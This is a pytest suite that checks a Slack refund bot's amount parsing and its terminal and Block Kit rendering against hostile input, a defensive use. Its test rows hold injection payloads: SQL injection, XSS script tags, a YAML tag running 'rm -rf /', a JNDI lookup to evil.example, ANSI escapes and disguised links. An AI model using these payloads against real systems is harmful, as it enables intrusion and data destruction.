"""Hostile and odd input through the whole answer: matching, decision, terminal and Block Kit rendering.

Each row of ``HOSTILE`` is a message an agent could send (pasted from a customer,
typed in a hurry, or written to break things) and what must be read from it. Every
row is answered with the sample policies as typed (the matcher chooses), and decided
again as if the agent had picked ``refund-request`` (so a decision and any question
about the amount are always rendered). For every row and both answers:

* nothing raises, and the amount read is exactly the expected one: a number that
  cannot be told for sure is *asked about* (``reason``), never guessed;
* the decision never rests on an amount that was not read;
* the terminal view has no control sequences or direction overrides, and a
  question about the amount is shown when there is one;
* the Block Kit view passes the SDK's limit checks, has at most 50 blocks, and no
  ``<!channel>``, ``<!here>``, ``<!everyone>``, ``<@U…>``, ``<#C…>`` or ``<http…>``
  markup (nor any other ``<``) from what the agent typed survives unescaped.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from decimal import Decimal

import pytest
from rich.console import Console

from bot.amounts import PROBLEM_ORDER
from bot.answering import MAX_SITUATION_CHARS, Answer, Engine, answer, decide_for
from bot.decision import History
from bot.messages import CATALOGUE, request_question, t
from bot.rendering_text import render_answer
from bot.slack.blocks import MAX_BLOCKS, MAX_SECTION, answer_blocks, as_dicts

D = Decimal
PICKED = "refund-request"  # what the agent picks when the matcher is unsure: refund {agent: 50}
UNCHECKED = "(not checked)"


@dataclass(frozen=True)
class Expect:
    """What must be read: the amount (None: none), its currency, and why the agent is asked (None: not asked)."""

    amount: Decimal | None = None
    currency: str | None = None
    reason: str | None = None
    outcome: str | None = None  # checked only when given
    lang: str | None = None  # checked only when given
    action: str | None = UNCHECKED


def money(amount: str, currency: str = "USD", **more) -> Expect:
    return Expect(amount=D(amount), currency=currency, **more)


def asks(reason: str, currency: str | None = "USD", **more) -> Expect:
    """No amount is read; the agent is asked, for ``reason``."""
    return Expect(reason=reason, currency=currency, **more)


NOTHING = Expect()  # no amount, nothing to ask: the answer says "tell me the amount" when it matters
EMPTY = Expect(outcome="empty")
LONG_FILLER = "the customer keeps writing about the weather and the neighbours " * 640  # 40,960 characters

HOSTILE: list[tuple[str, str, Expect]] = [
    # ---------------------------------------------------------------- nothing to read
    ("empty", "", EMPTY),
    ("spaces", "     ", EMPTY),
    ("whitespace of every kind", " \t\n\r\u00a0\u2003\u3000 ", EMPTY),
    ("only newlines", "\n" * 40_000, EMPTY),
    ("only zero-width characters", "\u200b\u200c\u200d\ufeff" * 10, NOTHING),
    ("only emoji", "📦😡🙏🏽👨‍👩‍👧", NOTHING),
    ("only punctuation", "?!?!... ¿¡ -- ;;", NOTHING),
    # ---------------------------------------------------------------- size
    ("40,000 characters of one letter", "a" * 40_000, NOTHING),
    ("40,000 digits", "9" * 40_000, NOTHING),  # an identifier, never an amount
    ("40,000 characters, amount first", "refund $12 for the lamp. " + LONG_FILLER, money("12")),
    ("40,000 characters, amount past the cut", LONG_FILLER + " refund $12", NOTHING),
    ("40,000 characters of amounts", "$1 " * 13_400, money("1")),  # the same amount, repeated
    ("40,000 right-to-left overrides", "\u202e" * 40_000, NOTHING),
    ("40,000 emoji and zero-width spaces", "🙂\u200b" * 20_000, NOTHING),
    ("40,000 characters of dollar signs", "$" * 40_000, NOTHING),
    # ---------------------------------------------------------------- invisible and direction characters
    ("zero-width space inside words and amount", "re\u200bfund $1\u200b2, the lamp ar\u200brived broken",
     money("12", action="refund")),
    ("joiners inside words", "pack\u200dage arri\u2060ved 6 days la\ufeffte, wants $12 shipping refund",
     money("12", action="refund_shipping", lang="en", outcome="match")),
    ("right-to-left override before the text", "\u202epackage arrived 6 days late, wants $12 shipping refund",
     asks("direction_override", action="refund_shipping", outcome="match")),  # shown as "21$"
    ("right-to-left override reversing the amount", "refund $\u202e21\u202c for the lamp",  # shown as "$12"
     asks("direction_override")),
    ("right-to-left override after the amount", "refund $12 for the lamp \u202eok", money("12")),
    ("left-to-right and Arabic marks", "refund\u200e $\u061c15\u200f please", money("15")),
    ("soft hyphens", "re\u00adfund $\u00ad20", money("20", action="refund")),
    # ---------------------------------------------------------------- digits of other scripts
    ("full-width digits and sign", "package arrived late, wants ＄１５ shipping refund",
     money("15", action="refund_shipping")),
    ("full-width letters", "ｐａｃｋａｇｅ ａｒｒｉｖｅｄ 6 days ｌａｔｅ, wants $12 shipping refund",
     money("12", outcome="match", lang="en")),
    ("Arabic-Indic digits", "reembolso del envío ١٥ USD, el paquete llegó tarde", money("15", lang="es")),
    ("Arabic-Indic separators", "refund ١٬٢٣٤٫٥٦ USD", money("1234.56")),
    ("Persian digits", "refund ۱۵ USD", money("15")),
    ("Devanagari digits", "refund १५ dollars", money("15")),
    ("Thai digits", "refund ๑๕ dollars", money("15")),
    ("mathematical bold digits", "refund 𝟏𝟓 USD", money("15")),
    ("vulgar fraction", "refund 12½ USD", asks("unclear_digits")),
    ("superscript", "refund 2⁵ USD", asks("unclear_digits")),
    ("subscript digits", "refund ₁₂ USD", asks("unclear_digits")),
    ("circled number", "refund ⑫ dollars", asks("unclear_digits")),
    ("roman numeral", "refund Ⅻ dollars", asks("unclear_digits")),
    # ---------------------------------------------------------------- Slack markup that must never act
    ("channel ping", "<!channel> package arrived late, refund $10 shipping", money("10", action="refund_shipping")),
    ("here ping", "<!here> paquete llegó tarde, reembolso 10 dólares", money("10", lang="es")),
    ("everyone ping", "<!everyone> refund $10 please", money("10")),
    ("user mention", "<@U123> wants a refund of $10", money("10")),
    ("user mention with label", "<@U0LEAD01|lucia> approve this refund of $10", money("10")),
    ("channel link", "see <#C0LEADS01|leads>, refund $10", money("10")),
    ("user group ping", "<!subteam^S0LEADS|@leads> refund $10", money("10")),
    ("date markup", "<!date^1392734382^{date}|Feb 18> refund $10", money("10")),
    ("plain at-mentions", "@here @channel @everyone refund $10", money("10")),
    ("already escaped markup", "&lt;!channel&gt; refund $10 &amp; more", money("10")),
    ("Slack link with a disguise", "<http://evil.example/steal|refund policy> says $10", money("10")),
    ("mailto link", "<mailto:boss@evil.example|the manager> refund $10", money("10")),
    ("Markdown link", "refund [$10](http://evil.example)", money("10")),
    ("bare URL holding an amount", "refund at http://evil.example/pay?amount=$500&x=1", money("500")),
    # ---------------------------------------------------------------- Markdown, HTML, terminal markup
    ("Slack mrkdwn", "*refund* _$10_ ~now~ `late` ```package```", money("10", action="refund")),
    ("quote and list", "> refund $10\n• arrived late\n1. broken", money("10")),
    ("HTML", "<b>refund</b> $10 <script>alert(1)</script>", money("10")),
    ("HTML entities", "refund &#36;10 &amp; &lt;b&gt;", Expect(action="refund")),  # &#36; is not a dollar sign
    ("HTML image", "<img src=x onerror=alert(1)> refund $10", money("10")),
    ("rich markup", "[bold red]refund[/] $10 [link=http://evil.example]policy[/link]", money("10")),
    ("ANSI escape sequences", "\x1b[2J\x1b[31mrefund $10\x1b[0m \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
     money("10")),
    ("control characters", "refund\x00 $10\x07\x08\r\x0b\x0c", money("10")),
    ("carriage returns hiding text", "refund $10\rrefund $99", asks("several_amounts")),
    ("lone surrogate", "refund $10 \ud83d broken", money("10")),
    # ---------------------------------------------------------------- amounts, both conventions
    ("Spanish thousands and decimals", "refund 1.234,56 for the damaged lamp", money("1234.56")),
    ("English thousands and decimals", "refund 1,234.56 for the damaged lamp", money("1234.56")),
    ("1.234 alone", "refund 1.234 for the damaged lamp", asks("unclear_separator")),
    ("1,234 alone", "refund $1,234", asks("unclear_separator")),
    ("1.234 told by another number", "pagó 12,50 y pide reembolso de 1.234", asks("several_amounts")),
    ("space as thousands separator", "refund 1 234,56 €", asks("several_currencies", currency=None)),
    ("three decimals", "refund of 0.125 dollars", asks("unclear_separator")),
    ("k multiplier", "package arrived late, wants 50k refund", money("50000")),
    ("decimal k multiplier", "refund 1.5k", money("1500")),
    ("mil multiplier", "reembolso de 2 mil dólares", money("2000")),
    ("minus sign", "refund -20 shipping, arrived late", asks("negative")),
    ("Unicode minus sign", "refund −20 USD", asks("negative")),
    ("minus before the dollar sign", "refund -$20", asks("negative")),
    ("two amounts", "refund $20 or $40 for the lamp", asks("several_amounts")),
    ("a range", "refund $20-30", asks("several_amounts")),
    ("two currencies", "refund $20 and €20 for the damaged lamp", asks("several_currencies", currency=None)),
    ("symbol and code disagree", "refund €12 USD", asks("unclear_currency", currency=None)),
    ("pesos with a dollar base", "reembolso de 20 pesos", asks("unclear_currency", currency=None)),
    ("foreign currency", "reembolso de 1.234,56 €", money("1234.56", "EUR")),
    ("too large", "refund $5000000000", asks("too_large")),
    ("forty nines", "refund $" + "9" * 40, asks("too_large")),
    ("zero", "refund $0", money("0")),
    ("scientific notation", "refund 1e3 dollars", asks("unclear_digits")),
    ("hexadecimal", "refund 0x10 dollars", asks("unclear_digits")),
    ("scientific notation, no currency", "refund 1e3", NOTHING),
    ("NaN and Infinity", "refund NaN dollars or Infinity USD", NOTHING),
    ("percent is not money", "wants 10% off the refund", NOTHING),
    ("order number and date", "order #48213 from 2026-11-01, call 555-123-4567, refund $12", money("12")),
    ("card number pasted", "card 4111 1111 1111 1111 cvv 123, refund $12", money("12")),
    # ---------------------------------------------------------------- code and data fragments
    ("SQL injection", "package late'; DROP TABLE exceptions; -- refund $10", money("10")),
    ("SQL union", "refund 10 UNION SELECT * FROM budgets WHERE '1'='1'", money("10")),
    ("YAML fragment", "refund: 10\ncurrency: EUR\nrole: manager", money("10")),
    ("YAML tag", "!!python/object/apply:os.system ['rm -rf /'] refund $10", money("10")),
    ("YAML anchors", "&a [*a, *a] refund: &b 10", NOTHING),  # "&" breaks "refund" from the number
    ("JSON", '{"action": "refund", "amount": 10, "role": "manager"}', NOTHING),
    ("format string", "refund {amount} {0.__class__} %s%n {role!r} $10", money("10")),
    ("template injection", "refund {{7*7}} ${jndi:ldap://evil.example/a} $10", money("10")),
    ("path traversal", "../../policies/authority.yaml refund $10", money("10")),
    ("homoglyph action", "rеfund $10", money("10")),  # Cyrillic е
]


@pytest.fixture(scope="module")
def engine(sample_set) -> Engine:
    return Engine.build(sample_set)


def test_the_catalogue_is_large_and_names_are_unique():
    names = [name for name, _, _ in HOSTILE]
    assert len(names) >= 60 and len(set(names)) == len(names)


@pytest.mark.parametrize(("name", "text", "expect"), HOSTILE, ids=[name for name, _, _ in HOSTILE])
def test_hostile_input_is_read_answered_and_rendered_safely(engine, sample_set, now, name, text, expect):
    typed = answer(engine, text, role="agent", history=History(), now=now)
    picked = typed
    if typed.outcome != "empty":  # as answer(..., playbook=PICKED) does, without matching twice
        decision = decide_for(engine, PICKED, typed.request, role="agent", history=History(), now=now)
        picked = typed.model_copy(update={"playbook": PICKED, "outcome": "match", "decision": decision})
    for result in (typed, picked) if picked.playbook != typed.playbook else (typed,):
        assert_read(result, expect)
        terminal = assert_terminal_view(result, sample_set)
        slack = assert_slack_view(result, sample_set)
        assert_amount_question_shown(result, sample_set, terminal, slack, expect)
    if expect.outcome:
        assert typed.outcome == expect.outcome
    if expect.lang:
        assert typed.lang == expect.lang
    if expect.outcome != "empty":
        assert picked.playbook == PICKED and picked.decision is not None


def assert_read(result: Answer, expect: Expect) -> None:
    """Exactly the expected amount; when it is unclear, asked about and never decided on."""
    seen = result.request
    assert (seen.amount, seen.reason, seen.ambiguous) == (expect.amount, expect.reason, expect.reason is not None)
    if expect.amount is not None or expect.reason is not None:
        assert seen.currency == expect.currency
    if expect.action != UNCHECKED:
        assert seen.action == expect.action
    if result.decision is not None:
        assert result.decision.request.amount == expect.amount  # nothing decided on an amount not read
        if expect.amount is None:
            assert result.decision.verdict in (None, "not_allowed")
            assert result.decision.reasons[0].code not in ("allowed", "needs_approval", "not_allowed_above_all")


_TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def assert_terminal_view(result: Answer, policy_set) -> str:
    """The rich view printed without colours: any control character in it came from the agent's text."""
    console = Console(record=True, width=80, color_system=None, force_terminal=False)
    with console.capture() as captured:
        console.print(render_answer(result, policy_set))
    shown = captured.get()
    assert shown.strip()
    shown.encode("utf-8")  # a terminal can print it (no unpaired surrogate)
    assert not _TERMINAL_UNSAFE.search(shown), repr(_TERMINAL_UNSAFE.search(shown).group())
    if result.outcome == "empty":
        assert t("outcome_empty", result.lang) in " ".join(shown.split())
    return " ".join(shown.split())


_PINGS = re.compile(r"<[!@#]|<(?:https?|mailto):", re.I)


def assert_slack_view(result: Answer, policy_set) -> str:
    """Validated Block Kit within limits, with no markup from the agent's text left active."""
    blocks = as_dicts(answer_blocks(result, policy_set, question_id=1))  # to_dict checks Slack's limits
    assert 1 <= len(blocks) <= MAX_BLOCKS
    texts = list(_texts(blocks))
    for text in texts:
        assert len(text) <= MAX_SECTION
        assert not _PINGS.search(text), text
        assert "<" not in text, text  # Slack markup starts with "<": every one from text is escaped
    json.dumps(blocks)  # what the Web API client sends
    return " ".join(" ".join(texts).split())


def _texts(node):
    """Every ``text`` string in a Block Kit payload."""
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "text" and isinstance(value, str):
                yield value
            else:
                yield from _texts(value)
    elif isinstance(node, list):
        for item in node:
            yield from _texts(item)


def assert_amount_question_shown(result: Answer, policy_set, terminal: str, slack: str, expect: Expect) -> None:
    """An unclear amount on a playbook answer comes with the question saying what to type instead."""
    if result.playbook is None or expect.reason is None:
        return
    question = request_question(result.request, result.lang, policy_set)
    assert question and question != t("request_unclear", result.lang)  # a specific question for each reason
    assert " ".join(question.split()) in terminal
    slack_question = question.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert " ".join(slack_question.split()) in slack


@pytest.mark.parametrize("problem", PROBLEM_ORDER)
def test_every_amount_problem_has_its_own_question_in_both_languages(problem):
    """A reason the parser gives is never answered with the generic "I couldn't read" sentence."""
    assert {"en", "es"} <= CATALOGUE[f"request_{problem}"].keys()


def test_every_hostile_input_can_be_stored(tmp_path, now):
    """What no playbook fits is kept (redacted) for the policy owners: odd text must not break the write."""
    from bot.ledger import Ledger

    ledger = Ledger(tmp_path / "ledger.db")
    for number, (name, text, _) in enumerate(HOSTILE):
        stored = ledger.record_unmatched(text[:MAX_SITUATION_CHARS], key=f"k{number}", user="U0AGENT01",
                                         candidates=[], revision="r1", now=now)
        assert stored.created, name
        stored.record.text.encode("utf-8")  # an unpaired surrogate would have made SQLite refuse the row


def test_the_situation_is_cut_before_matching(engine, now):
    result = answer(engine, "x" * 40_000, role="agent", history=History(), now=now)
    assert len(result.text) == MAX_SITUATION_CHARS


@pytest.mark.parametrize("text", ["<!channel> refund $10", "<@U0LEAD01> refund $10", "<http://evil.example|x>"])
def test_slack_markup_is_shown_as_typed(engine, sample_set, now, text):
    """Escaped, not dropped: the agent sees what they typed, and Slack shows it literally."""
    result = answer(engine, text + " wants something odd", role="agent", history=History(), now=now)
    blocks = json.dumps(as_dicts(answer_blocks(result, sample_set, question_id=1)), ensure_ascii=False)
    if result.playbook is None:  # the agent's text is echoed only when no playbook is shown
        escaped = text.replace("<", "&lt;").replace(">", "&gt;")
        assert escaped in blocks


def test_terminal_markup_is_shown_as_typed(engine, sample_set, now):
    result = answer(engine, "[bold red]refund[/] hello [link=http://evil.example]x[/link]", role="agent",
                    history=History(), now=now)
    console = Console(record=True, width=200, color_system=None)
    console.print(render_answer(result, sample_set))
    assert "[bold red]refund[/]" in console.export_text()


# ---------------------------------------------------------------- what the fuzzer found (benchmarks/fuzz_parsers.py)

def _fuzzer():
    """benchmarks/fuzz_parsers.py (not a package): its checks, so a regression row fails as the fuzzer did."""
    import importlib.util
    from pathlib import Path

    path = Path(__file__).resolve().parent.parent / "benchmarks" / "fuzz_parsers.py"
    spec = importlib.util.spec_from_file_location("fuzz_parsers", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


# target -> text that failed a check before the fix named beside it
FUZZ_REGRESSIONS: list[tuple[str, str]] = [
    # found in 90 s on the code before this suite (benchmarks/fuzz_parsers.py --minutes 1.5):
    ("words", "0A"),  # a zero-width space split "0a" into "0" and "a": invisible characters now go first
    ("language", "AU"),  # "A<ZWJ>U" read as "a" + "u" (Spanish "u"): invisible characters now go first
    ("render", "\x1b"),  # the terminal echo passed escape sequences through: control characters now go
    # found while writing the catalogue above (misread amounts are HOSTILE rows: "vulgar fraction",
    # "scientific notation", "right-to-left override reversing the amount"):
    ("words", "re\u200bfund ar\u200brived"),  # two words each, so "refund" and "arrived" never matched
    ("language", "pack\u200dage arri\u2060ved la\ufeffte"),  # "la", "te": Spanish
]


@pytest.fixture(scope="module")
def fuzz_checks():
    targets = _fuzzer().TARGETS
    return {name: targets[name][0]() for name in {target for target, _ in FUZZ_REGRESSIONS}}


@pytest.mark.parametrize(("target", "text"), FUZZ_REGRESSIONS)
def test_what_the_fuzzer_found_stays_fixed(fuzz_checks, target, text):
    fuzz_checks[target](text)


def test_the_fuzzer_runs_each_parser_target(tmp_path):
    """A few examples per target through the fuzzer's own loop: it still runs against the current code."""
    fuzzer = _fuzzer()
    strategy, found = fuzzer.texts(["refund $12 for the late package"]), []
    for name in ("money", "words", "language", "redact", "render"):
        assert fuzzer.run_batch(name, fuzzer.TARGETS[name][0](), 10, strategy, found) >= 10
    assert found == []
    fuzzer.report({"money": 10}, [{"target": "money", "text": "x", "error": "AssertionError: x", "where": "f"}], 1.0,
                  tmp_path / "failures.jsonl")
    assert json.loads((tmp_path / "failures.jsonl").read_text())["text"] == "x"
